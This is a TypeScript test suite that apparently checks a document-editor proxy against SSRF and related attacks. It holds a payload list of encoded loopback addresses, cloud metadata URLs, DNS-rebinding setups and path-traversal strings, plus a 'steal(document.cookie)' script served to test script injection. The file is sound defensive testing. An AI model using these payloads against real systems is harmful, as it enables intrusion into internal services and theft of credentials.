import type { RequestListener } from 'node:http'
import { posix } from 'node:path'
import type { Test } from 'tap'
import { answerWith, exchangeGet, startUpstream } from '../../kit/http.js'
import type { Attack, Run } from './attack.js'
import { namedBy, startTarget, type Target } from './target.js'

const ANYONE = 'an HTTP client'
const USER = 'a page with a document of their own'
const NO_TOKEN = { 'proxy.requireToken': 'no token from a page' }
const RULES = { 'proxy.allow': 'only result files of the document server are allowed', allowPrivateAddresses: 'only public IP addresses are allowed' }
/** An address of the outside: no test gets there. */
const PUBLIC = '93.184.216.34'
const SCRIPT = 'steal(document.cookie)'
const SETTINGS = 'what the document server says to its own machine only'

type Ask = (target: Target, url: string) => Promise<string>

const asAnyone: Ask = async (target, url) => {
  const response = await fetch(target.handler({ action: 'proxy', url }))
  return await response.text()
}

/** With what the page of the attacker's own document sends. */
const asUser: Ask = async (target, url) => {
  const response = await fetch(...await pageRequest(target, url))
  return await response.text()
}

/** What a page with the attacker's own document gives to `fetch`. */
async function pageRequest (target: Target, url: string): Promise<[url: string, init: RequestInit]> {
  const { proxyToken } = await target.app.editorControl().openDocument(target.own)
  return [target.handler({ action: 'proxy', fileId: target.own, url }), { headers: { 'x-editor-proxy-token': proxyToken } }]
}

/** Has the proxy connect to what it must not: all of the URLs lead there, or none. */
function connecting (title: string, urls: readonly string[]): Attack {
  return {
    title,
    has: ANYONE,
    stoppedBy: { ...NO_TOKEN, ...RULES },
    async run (t, options) {
      const target = await startTarget(t, options)
      return await allOrNone(urls, async url => {
        const before = target.elsewhere().length
        await asAnyone(target, url)
        return target.elsewhere().length > before
      })
    }
  }
}

/** Has the proxy get a page of the inside. */
function reading (
  title: string,
  urlOf: (port: number, target: Target) => string,
  { has = ANYONE, ask = asAnyone, stoppedBy = { ...NO_TOKEN, ...RULES } as Attack['stoppedBy'] } = {}
): Attack {
  return {
    title,
    has,
    stoppedBy,
    async run (t, options) {
      const inside = await startUpstream(t, answerWith('inside'))
      const target = await startTarget(t, { ...options, serve: redirecting })
      const body = await ask(target, urlOf(inside.port, target))
      return inside.connections() > 0 && body === 'inside'
    }
  }
}

/** The host lets the proxy fetch any origin. */
function byName (title: string, addresses: (look: number) => readonly string[], how: string): Attack {
  return {
    title,
    has: `${USER}; a domain`,
    stoppedBy: { allowPrivateAddresses: how },
    async run (t, options) {
      const inside = await startUpstream(t, answerWith('inside'))
      const names = await namedBy(t, { 'evil.test': addresses })
      const target = await startTarget(t, { ...names, ...options, proxy: { ...options.proxy, allow: 'any' } })
      for (let attempt = 0; attempt < 3; attempt++) await asUser(target, `http://evil.test:${inside.port}/`)
      // A connection to one of several addresses is not let begin here: `noWayOut` refuses them all when one is public.
      return inside.connections() > 0 || target.elsewhere().includes(`127.0.0.1:${inside.port}`)
    }
  }
}

/** Has the proxy get what the document server gives to its own machine only. */
function spying (title: string, run: Run): Attack {
  return {
    title,
    has: USER,
    stoppedBy: {
      'proxy.allow': 'only paths of result files are allowed',
      allowPrivateAddresses: 'other paths of the document server are checked like any URL'
    },
    run
  }
}

/** Has the proxy fetch a result file, which nobody but a page with an editor may. */
function using (title: string, has: string, stoppedBy: Attack['stoppedBy'], use: (target: Target, t: Test) => Promise<void>): Attack {
  return {
    title,
    has,
    stoppedBy,
    async run (t, options) {
      const target = await startTarget(t, options)
      await use(target, t)
      return target.documentServer.requests.length > 0
    }
  }
}

function resultOf ({ handler, documentServer }: Target, fileId?: string): string {
  return handler({ action: 'proxy', ...(fileId !== undefined && { fileId }), url: `${documentServer.origin}/cache/files/x` })
}

function pathOf (url: string): string {
  return url.slice(new URL(url).origin.length)
}

async function withToken (target: Target, token: string): Promise<void> {
  await fetch(resultOf(target, target.own), { headers: { 'x-editor-proxy-token': token } })
}

/** By all of the URLs, or by none. */
const byUrls = (urlsOf: (origin: string) => readonly string[]): Run => async (t, options) => {
  const target = await startTarget(t, { ...options, serve: talkative })
  return await allOrNone(urlsOf(target.documentServer.origin), async url => await asUser(target, url) === SETTINGS)
}

/** The service reaches the document server at an address that browsers don't know. */
const behind = (urlOf: (internal: string) => string): Run => async (t, options) => {
  const { origin: internalUrl } = await startUpstream(t, talkative)
  const target = await startTarget(t, { ...options, documentServerOrigin: 'http://docs.invalid', documentServer: { ...options.documentServer, internalUrl } })
  return await asUser(target, urlOf(internalUrl)) === SETTINGS
}

async function allOrNone (urls: readonly string[], reaches: (url: string) => Promise<boolean>): Promise<boolean> {
  const reaching = new Set<string>()
  for (const url of urls) if (await reaches(url)) reaching.add(url)
  if (reaching.size > 0 && reaching.size < urls.length) throw new Error(`only some get there: ${[...reaching]}`)
  return reaching.size > 0
}

/** A result file that is somewhere else. */
const redirecting: RequestListener = ({ url = '' }, response) => {
  const [, to] = /^\/cache\/files\/moved\?(.*)$/.exec(url) ?? []
  if (to === undefined) response.end('a file')
  else response.writeHead(302, { location: decodeURIComponent(to) }).end()
}

/**
 * Gives its settings, too; reads a path as a server behind a server does, which decodes what is decoded and drops
 * parameters.
 */
const talkative: RequestListener = (request, response) => {
  const [path = ''] = (request.url ?? '').split('?', 1)
  let read = path
  for (let layer = 0; layer < 3 && /%[\da-f]{2}/i.test(read); layer++) read = decodeURIComponent(read)
  const resolved = posix.normalize(read.replaceAll('\\', '/').replace(/;[^/]*/g, ''))
  if (/^(?:\/\d[\w.-]*)?\/info\b/.test(resolved)) response.end(SETTINGS)
  else redirecting(request, response)
}

/** As a browser asks for what an element of a page of the service names. */
const ELEMENTS = [
  { 'Sec-Fetch-Site': 'same-origin', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Dest': 'document' },
  { 'Sec-Fetch-Site': 'same-origin', 'Sec-Fetch-Mode': 'no-cors', 'Sec-Fetch-Dest': 'image' },
  { 'Sec-Fetch-Site': 'same-origin', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Dest': 'document', 'Sec-Fetch-User': '?1' }
]

export const proxying: readonly Attack[] = [
  {
    title: 'uses the service to fetch from any site anonymously',
    has: ANYONE,
    stoppedBy: { ...NO_TOKEN, 'proxy.allow': RULES['proxy.allow'] },
    async run (t, options) {
      const target = await startTarget(t, options)
      await asAnyone(target, `http://${PUBLIC}/`)
      return target.elsewhere().includes(`${PUBLIC}:80`)
    }
  },
  reading('reads a page on the service\'s own machine', port => `http://127.0.0.1:${port}/`),
  reading('reads a page on the service\'s own machine by the name localhost', port => `http://localhost:${port}/`),
  reading(
    'reads a page on the service\'s own machine with a URL whose user name resembles an allowed host',
    port => `http://docs.example.com@127.0.0.1:${port}/`
  ),
  reading(
    'reads a page on the service\'s own machine from a page with an editor',
    port => `http://127.0.0.1:${port}/cache/files/x`,
    { has: USER, ask: asUser, stoppedBy: RULES }
  ),
  reading(
    'reads a page on the service\'s own machine through a redirect of the document server',
    (port, target) =>
      `${target.documentServer.origin}/cache/files/moved?${encodeURIComponent(`http://127.0.0.1:${port}/`)}`,
    { has: `${USER}; a way to make the document server redirect`, ask: asUser, stoppedBy: RULES }
  ),
  connecting('connects to a private IP address', [
    'http://10.0.0.1/', 'http://172.16.0.1/', 'http://192.168.0.1/', 'http://100.64.0.1/'
  ]),
  connecting('asks the cloud\'s metadata service for credentials', [
    'http://169.254.169.254/latest/meta-data/', 'http://168.63.129.16/', 'http://[fd00:ec2::254]/'
  ]),
  connecting('writes an internal IP address as a number', [
    'http://2130706433:9/', 'http://0x7f.1:9/', 'http://017700000001:9/', 'http://127.1:9/', 'http://0:9/'
  ]),
  connecting('writes an internal IP address as IPv6', [
    'http://[::1]:9/', 'http://[::ffff:127.0.0.1]:9/', 'http://[::ffff:7f00:1]:9/', 'http://[::127.0.0.1]:9/',
    'http://[64:ff9b::7f00:1]:9/', 'http://[2002:7f00:1::]:9/'
  ]),
  byName(
    'reaches an internal host by a host name that resolves to it, where any origin is allowed',
    () => ['127.0.0.1'],
    'the IP address of a host name is checked'
  ),
  byName(
    'reaches an internal host by a host name with an internal IP address among public ones',
    () => [PUBLIC, '127.0.0.1'],
    'every IP address of a host name is checked'
  ),
  byName(
    'reaches an internal host by a host name that changes between two look-ups (rebinding)',
    look => [look === 1 ? PUBLIC : '127.0.0.1'],
    'the connection uses the checked IP address'
  ),
  spying(
    'reads the document server\'s settings (/info) through the proxy',
    byUrls(origin => ['/info/info.json', '/info', '/9.3.0-abc/info/info.json'].map(path => origin + path))
  ),
  spying(
    'reads the document server\'s settings through a redirect of a result file',
    byUrls(origin =>
      ['/info/info.json', `${origin}/info/info.json`].map(to => `${origin}/cache/files/moved?${encodeURIComponent(to)}`)
    )
  ),
  spying(
    'reads the document server\'s settings with a path that two servers parse differently',
    byUrls(origin =>
      [
        '..%2f..%2finfo', '..%5c..%5cinfo', '..;/..;/info', '..;a=b/..;/info', '%252e%252e/%252e%252e/info',
        '..%252f..%252finfo', '..%25252f..%25252finfo'
      ].map(path => `${origin}/cache/files/${path}`)
    )
  ),
  spying('reads the document server\'s settings by its internal URL', behind(internal => `${internal}/info/info.json`)),
  using(
    'has the browser of a visitor fetch from the document server',
    'a page of another origin that the visitor opens',
    {
      'proxy.requireToken': 'a page of another origin has no token',
      'proxy.crossOrigin': 'only pages of the same origin are allowed'
    },
    async (target, t) => {
      await exchangeGet(t, target.origin, pathOf(resultOf(target)), {
        Origin: 'https://foreign.example',
        'Sec-Fetch-Site': 'cross-site'
      })
    }
  ),
  using(
    'uses the proxy from a link, an image or a form in a page of the service',
    'the ability to put one into a page of the service that the victim opens',
    { 'proxy.requireToken': 'none of them sends the token header' },
    async (target, t) => {
      for (const headers of ELEMENTS) await exchangeGet(t, target.origin, pathOf(resultOf(target, target.fileId)), headers)
      if (target.documentServer.requests.length % ELEMENTS.length > 0) throw new Error('only some get there')
    }),
  {
    title: 'has a script from their own server run in a page that trusts its own origin, through the proxy',
    has: 'a page of the service in which they can place a script element, with `script-src \'self\'`',
    stoppedBy: {
      'proxy.requireToken': 'a script element sends no token header',
      'proxy.crossOrigin': 'the browser\'s fetch metadata says it is a script',
      'proxy.allow': 'only result files of the document server are allowed'
    },
    async run (t, options) {
      const evil = await startUpstream(t, answerWith(SCRIPT, 200, { 'content-type': 'text/javascript' }))
      // It is on loopback, where it plays a server of the outside.
      const target = await startTarget(t, { allowPrivateAddresses: true, ...options })
      const answer = await exchangeGet(t, target.origin, pathOf(target.handler({ action: 'proxy', url: `${evil.origin}/x.js` })), {
        'Sec-Fetch-Site': 'same-origin',
        'Sec-Fetch-Mode': 'no-cors',
        'Sec-Fetch-Dest': 'script'
      })
      return /^HTTP\/1\.1 200 /.test(answer) && answer.includes(SCRIPT)
    }
  },
  using('uses the proxy with the token from a page of another service', 'a page with a document of their own, in another service with the same secret',
    { 'proxy.requireToken': 'a token is signed for one service' },
    async target => { await withToken(target, target.urlsOf({ publicBaseUrl: () => 'https://other.example' }).proxyToken(target.own)) }),
  using('uses the proxy for years with the token from a page they once opened', 'an old page with a document of their own',
    { 'proxy.requireToken': 'a token expires' },
    async target => { await withToken(target, target.urlsOf({ downloadUrlLifetime: -5000 }).proxyToken(target.own)) })
]
